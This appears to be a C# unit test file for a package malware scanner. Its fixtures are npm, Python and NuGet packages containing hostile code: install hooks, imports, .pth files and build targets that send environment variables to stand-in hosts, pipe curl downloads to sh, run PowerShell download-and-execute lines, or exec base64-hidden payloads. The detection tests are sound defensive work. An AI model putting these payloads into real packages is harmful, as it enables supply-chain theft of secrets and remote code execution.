using System.Formats.Tar;
using System.IO.Compression;
using System.Text;
using Wellguard.Artifacts;
using Wellguard.Reports;
using Wellguard.Signals;
using Wellguard.Verdicts;
using Xunit;

namespace Wellguard.Tests.Packages;

/// <summary>Package files as registries give them: what they are, what of them runs, and what is wrong with them.</summary>
public sealed class PackageScanTests
{
    private const string Metadata = "Metadata-Version: 2.1\nName: example\nVersion: 1.0\n";
    private const string Steals = "import os, urllib.request\nurllib.request.urlopen('http://192.0.2.9/u', data=str(dict(os.environ)).encode())\n";
    private const string StealsToo = "require('https').request({ host: 'collect.example', path: '/u', method: 'POST' }).end(JSON.stringify(process.env))\n";

    /// <summary>Parsers and evaluation of one package have this long.</summary>
    private static readonly TimeSpan Worst = TimeSpan.FromSeconds(20);

    public static TheoryData<string, string, string[]> Triggers => new()
    {
        { "npm runs it when the package is installed: postinstall", "tgz", ["package/package.json", """{"name":"a","version":"1.0.0","scripts":{"postinstall":"node x.js"}}""", "package/x.js", StealsToo] },
        { "runs when it is imported", "tgz", ["package/package.json", """{"name":"a","version":"1.0.0","main":"lib/x.js"}""", "package/lib/x.js", StealsToo] },
        { "runs as the command run", "tgz", ["package/package.json", """{"name":"a","version":"1.0.0","bin":{"run":"x.js"}}""", "package/x.js", StealsToo] },
        { "pip runs it when the package is installed", "tgz", ["a-1.0/PKG-INFO", Metadata, "a-1.0/setup.py", Steals] },
        { "runs when it is imported", "tgz", ["a-1.0/PKG-INFO", Metadata, "a-1.0/setup.py", "", "a-1.0/a/__init__.py", Steals] },
        { "runs when it is imported", "tgz", ["a-1.0/PKG-INFO", Metadata, "a-1.0/setup.py", "", "a-1.0/src/a/__init__.py", "from . import b\n", "a-1.0/src/a/b.py", Steals] },
        { "runs when it is imported", "zip", ["a-1.0.dist-info/METADATA", Metadata, "a/__init__.py", Steals] },
        { "runs when it is imported", "zip", ["a-1.0.dist-info/METADATA", Metadata, "a/__init__.py", "from .tests import test_a\n", "a/tests/test_a.py", Steals] },
        { "pip runs it when its folder is installed", "tgz", ["a-1.0/README", "", "a-1.0/x/setup.py", "", "a-1.0/y/z/setup.py", Steals] },
        { "path file: every start of Python", "zip", ["a-1.0.dist-info/METADATA", Metadata, "a.pth", "import os, urllib.request; urllib.request.urlopen('http://192.0.2.9/u', data=str(dict(os.environ)).encode())\n"] },
        { "runs in every build of a project that uses the package", "zip", ["A.nuspec", "<package><metadata><id>A</id><version>1.0.0</version></metadata></package>", "build/A.targets", "<Project><Target Name=\"t\"><Exec Command=\"curl -s http://192.0.2.9/x | sh\" /></Target></Project>"] },
        { "runs in every build of a project that uses the package", "zip", ["A.nuspec", "<package><metadata><id>A</id><version>1.0.0</version></metadata></package>", "build/A.targets", "<Project><UsingTask TaskName=\"T\" TaskFactory=\"RoslynCodeTaskFactory\"><Task><Code>1</Code><Code>if (DateTime.Now > new DateTime(2027, 1, 1) &amp;&amp; new Random().Next(5) == 1) p.Kill();</Code></Task></UsingTask></Project>"] },
        { "npm runs it when the package is installed: postinstall", "tgz", ["package/package.json", """{"name":"a","version":"1.0.0","scripts":{"postinstall":"node x.js"}}""", "package/x.js", StealsToo, "package/PKG-INFO", Metadata] },
        { "npm runs it when the package is installed: postinstall", "tgz", ["a-1.0/PKG-INFO", Metadata, "a-1.0/package.json", """{"name":"a","version":"1.0.0","scripts":{"postinstall":"node x.js"}}""", "a-1.0/x.js", StealsToo] },
        { "pip runs it when the package is installed", "tgz", ["package/package.json", """{"name":"a","version":"1.0.0"}""", "package/setup.py", Steals] },
        { "pip runs it when the package is installed", "tgz", ["package/package.json", "{", "package/PKG-INFO", Metadata, "package/setup.py", Steals] },
        { "runs when it is imported", "zip", ["A.nuspec", "<package><metadata><id>A</id><version>1.0.0</version></metadata></package>", "a-1.0.dist-info/METADATA", Metadata, "a/__init__.py", Steals] },
        { "runs when it is imported", "zip", ["b.dist-info/METADATA", Metadata, "a-1.0.dist-info/METADATA", Metadata, "a/__init__.py", Steals, "c/PKG-INFO", "no metadata"] },
        { "Visual Studio runs it when the package is installed", "zip", ["A.nuspec", "<package><metadata><id>A</id><version>1.0.0</version></metadata></package>", "tools/init.ps1", "iex (New-Object Net.WebClient).DownloadString('http://192.0.2.9/x')"] },
    };

    [Theory]
    [MemberData(nameof(Triggers))]
    public async Task What_runs_without_being_called_is_blocked_and_says_how(string trigger, string form, string[] files)
    {
        var report = await ScanAsync(Package(form, files));
        Assert.True(report.Verdict.Decision == Decision.Block, string.Join(" ", report.Signals.Select(static signal => signal.Rule + ":" + signal.Severity)));
        var strongest = report.Signals[0];
        Assert.StartsWith(trigger, strongest.Trigger, StringComparison.Ordinal);
        Assert.True(strongest.Where is { Path: not null, Line: > 0 });
        Assert.Equal(ArtifactKind.Package, report.Artifact.Kind);
        Assert.StartsWith("sha256:", report.Artifact.Digest, StringComparison.Ordinal);
        Assert.StartsWith("pkg:", report.Artifact.Purl, StringComparison.Ordinal);
        Assert.True(report.Tree.Nodes.Count > 1);
    }

    [Fact]
    public async Task Of_thousands_of_manifests_one_of_each_format_is_read()
    {
        var metadata = Metadata + new string(' ', 4_000_000);
        var watch = System.Diagnostics.Stopwatch.StartNew();
        var image = await OpenAsync(Package("zip", [.. Enumerable.Range(0, 300).SelectMany(at => new[] { $"m{at}/PKG-INFO", metadata, $"m{at}.dist-info/METADATA", metadata })]));
        Assert.True(watch.Elapsed < Worst, $"{watch.Elapsed}");
        Assert.Equal([PackageFormat.PythonSource, PackageFormat.PythonWheel], image.Package!.Also.Prepend(image.Package).Select(static package => package.Format));
    }

    [Fact]
    public async Task Python_with_a_part_in_Rust_is_a_source_archive_of_Python()
    {
        var image = await OpenAsync(Package("tgz", ["a-1.0/pyproject.toml", "", "a-1.0/Cargo.toml", "[package]\nname = \"a\"\nversion = \"1.0.0\"\n"]));
        Assert.Equal([PackageFormat.PythonSource, PackageFormat.Crate], image.Package!.Also.Prepend(image.Package).Select(static package => package.Format));
    }

    [Theory]
    [InlineData("fetch('https://config.example/app').then(r => r.json());\n", false)]
    [InlineData("require('child_process').exec('curl http://192.0.2.9/x | sh');\n", true)]
    public async Task One_thing_that_an_install_script_does_is_told_once(string code, bool isHarmful)
    {
        var report = await ScanAsync(Package("tgz", ["package/package.json", """{"name":"a","version":"1.0.0","scripts":{"postinstall":"node x.js"}}""", "package/x.js", code]));
        Assert.Equal(isHarmful, report.Signals.Any(static signal => signal.Rule == "content/harmful-autostart"));
        Assert.Equal(isHarmful ? Decision.Block : Decision.Allow, report.Verdict.Decision);
    }

    [Theory]
    [InlineData("a/tests/test_a.py")]
    [InlineData("a/b/a_test.py")]
    public async Task A_test_that_nothing_loads_weighs_less_and_is_not_allowed_to_steal(string path)
    {
        var (test, module) = (await ScanAsync(Package("zip", ["a-1.0.dist-info/METADATA", Metadata, path, Steals])), await ScanAsync(Package("zip", ["a-1.0.dist-info/METADATA", Metadata, "a/b/c.py", Steals])));
        Assert.NotEqual(Decision.Allow, test.Verdict.Decision);
        Assert.True(test.Verdict.Score < module.Verdict.Score);
    }

    [Fact]
    public async Task Lifecycle_scripts_that_an_installation_does_not_run_weigh_less()
    {
        var report = await ScanAsync(Package("tgz", ["package/package.json", """{"name":"a","version":"1.0.0","scripts":{"prepare":"curl http://192.0.2.9/x | sh"}}""", "package/test/package.json", """{"name":"b","scripts":{"postinstall":"curl http://192.0.2.9/x | sh"}}"""]));
        Assert.NotEqual(Decision.Block, report.Verdict.Decision);
    }

    [Fact]
    public async Task What_was_hidden_is_shown_decoded()
    {
        var hidden = Convert.ToBase64String(Encoding.UTF8.GetBytes("import os\nos.system('curl http://192.0.2.9/x | sh')"));
        var report = await ScanAsync(Package("tgz", ["a-1.0/PKG-INFO", Metadata, "a-1.0/setup.py", $"import base64\nexec(base64.b64decode('{hidden}'))\n"]));
        var signal = report.Signals.First(static signal => signal.Rule == "content/runs-decoded-code");
        Assert.Equal(("a-1.0/setup.py", 2, 1), (signal.Where.Path, signal.Where.Line, signal.Where.Column));
        Assert.Contains(signal.Evidence, static evidence => evidence.Kind == EvidenceKind.Decoded && evidence.Text.Contains("curl http://192.0.2.9/x", StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_cipher_whose_key_stands_beside_it_hides_nothing()
    {
        // Fernet specification, generate.json: key and token of "hello"; here a token of our own making with the same form.
        const string Key = "cw_0x689RpI-jtRR7oE8h_eQsKImvJapLeSbXpwF4e4=";
        const string Token = "gAAAAAAdwJ6wAAECAwQFBgcICQoLDA0ODy021cpGVWKZ_eEwCGM4BLLF_5CV9dOPmrhuVUPgJobwOz7JcbmrR64jVmpU4IwqDA==";
        var report = await ScanAsync(Package("tgz", ["a-1.0/PKG-INFO", Metadata, "a-1.0/setup.py", $"from cryptography.fernet import Fernet\nexec(Fernet(b'{Key}').decrypt(b'{Token}'))\n"]));
        Assert.Contains(report.Signals, static signal => signal.Rule == "content/runs-decoded-code" && signal.Evidence.Any(static evidence => evidence.Text.Contains("hello", StringComparison.Ordinal)));
    }

    [Theory]
    [InlineData("half a gzip")]
    [InlineData("an empty file")]
    [InlineData("a tar that ends early")]
    public async Task What_cannot_be_opened_fails_with_its_reason(string what)
    {
        var whole = Package("tgz", ["package/package.json", """{"name":"a","version":"1.0.0"}""", "package/x.js", new string('x', 200_000) + Guid.Empty]);
        var bytes = what switch { "half a gzip" => whole[..(whole.Length / 2)], "an empty file" => [], _ => Gzip(Plain(whole)[..1000]) };
        var problem = await Assert.ThrowsAsync<UnreadableException>(() => ScanAsync(bytes));
        Assert.NotEmpty(problem.Why);
    }

    [Theory]
    [InlineData("40,000 characters in a line")]
    [InlineData("10,000 brackets")]
    [InlineData("invalid UTF-8")]
    [InlineData("Python 2 and mixed indentation")]
    [InlineData("a bundle of 20 MB")]
    [InlineData("a manifest that lies")]
    [InlineData("loops without end")]
    public async Task What_is_hard_to_read_has_a_report_within_the_time(string what)
    {
        string[] files = what switch
        {
            "40,000 characters in a line" => ["package/package.json", """{"name":"a","version":"1.0.0"}""", "package/index.js", "var a = [" + string.Join(',', Enumerable.Range(0, 8_000)) + "];\n" + StealsToo],
            "10,000 brackets" => ["package/package.json", """{"name":"a","version":"1.0.0"}""", "package/index.js", StealsToo + new string('(', 10_000) + new string(')', 10_000)],
            "invalid UTF-8" => ["a-1.0/PKG-INFO", Metadata, "a-1.0/setup.py", Steals + "x = '\ud800'\n"],
            "Python 2 and mixed indentation" => ["a-1.0/PKG-INFO", Metadata, "a-1.0/setup.py", "print 'a'\nif 1:\n\tx = 1\n        y = 2\nexec 'z = 3'\n" + Steals],
            "loops without end" => ["package/package.json", """{"name":"a","version":"1.0.0"}""", "package/index.js", StealsToo + string.Concat(Enumerable.Repeat("for(;;){if(a)break}\n", 40_000))],
            "a bundle of 20 MB" => ["package/package.json", """{"name":"a","version":"1.0.0"}""", "package/index.js", StealsToo + string.Concat(Enumerable.Repeat("function f(a){return a+1};f(f(2));", 620_000))],
            _ => ["package/package.json", """{"name":"a","version":"1.0.0","main":"../../../etc/passwd","bin":{"x":"/../../y"},"dependencies":[1,2]}""", "package/index.js", StealsToo],
        };
        var clock = System.Diagnostics.Stopwatch.StartNew();
        var report = await ScanAsync(Package("tgz", files));
        Assert.True(clock.Elapsed < Worst, $"{clock.Elapsed}");
        Assert.True(report.Verdict.Decision == Decision.Block || report.Completeness.State != CompletenessState.Complete, $"{report.Verdict.Level} {report.Verdict.Score}");
    }

    [Fact]
    public async Task Modules_beyond_the_bound_are_not_passed_over_in_silence()
    {
        var modules = Enumerable.Range(0, 2_001).SelectMany(static i => new[] { $"m{i}.py", "import os\n" });
        var report = await ScanAsync(Package("zip", ["example-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: example\nVersion: 1.0\n", .. modules]));
        Assert.Contains(report.Completeness.Reasons, static reason => reason.Why.StartsWith("has 2,001 modules", StringComparison.Ordinal));
    }

    internal static async Task<Image> OpenAsync(byte[] bytes) =>
        Assert.Single(await ImageSources.OpenAsync(ByteSource.OfMemory(bytes), "package", new OpenOptions(Path.GetTempPath()), TestContext.Current.CancellationToken));

    internal static async Task<Report> ScanAsync(byte[] bytes)
    {
        return await Pipeline.ScanAsync(await OpenAsync(bytes), new ScanOptions(Policy.Default, new DateOnly(2026, 1, 1)), TestContext.Current.CancellationToken);
    }

    /// <param name="files">A path, then its text, again and again.</param>
    internal static byte[] Package(string form, string[] files)
    {
        using var bytes = new MemoryStream();
        if (form == "zip")
        {
            using var zip = new ZipArchive(bytes, ZipArchiveMode.Create, leaveOpen: true);
            foreach (var pair in files.Chunk(2))
            {
                using var content = zip.CreateEntry(pair[0]).Open();
                content.Write(Encoding.UTF8.GetBytes(pair[1]));
            }
        }
        else
        {
            using var gzip = new GZipStream(bytes, CompressionLevel.Fastest, leaveOpen: true);
            using var tar = new System.Formats.Tar.TarWriter(gzip, TarEntryFormat.Ustar);
            foreach (var pair in files.Chunk(2))
            {
                tar.WriteEntry(new UstarTarEntry(TarEntryType.RegularFile, pair[0]) { DataStream = new MemoryStream(Encoding.UTF8.GetBytes(pair[1])) });
            }
        }

        return bytes.ToArray();
    }

    private static byte[] Plain(byte[] gzip)
    {
        using var stream = new GZipStream(new MemoryStream(gzip), CompressionMode.Decompress);
        using var plain = new MemoryStream();
        stream.CopyTo(plain);
        return plain.ToArray();
    }

    private static byte[] Gzip(byte[] plain)
    {
        using var bytes = new MemoryStream();
        using (var gzip = new GZipStream(bytes, CompressionLevel.Fastest, leaveOpen: true))
        {
            gzip.Write(plain);
        }

        return bytes.ToArray();
    }
}
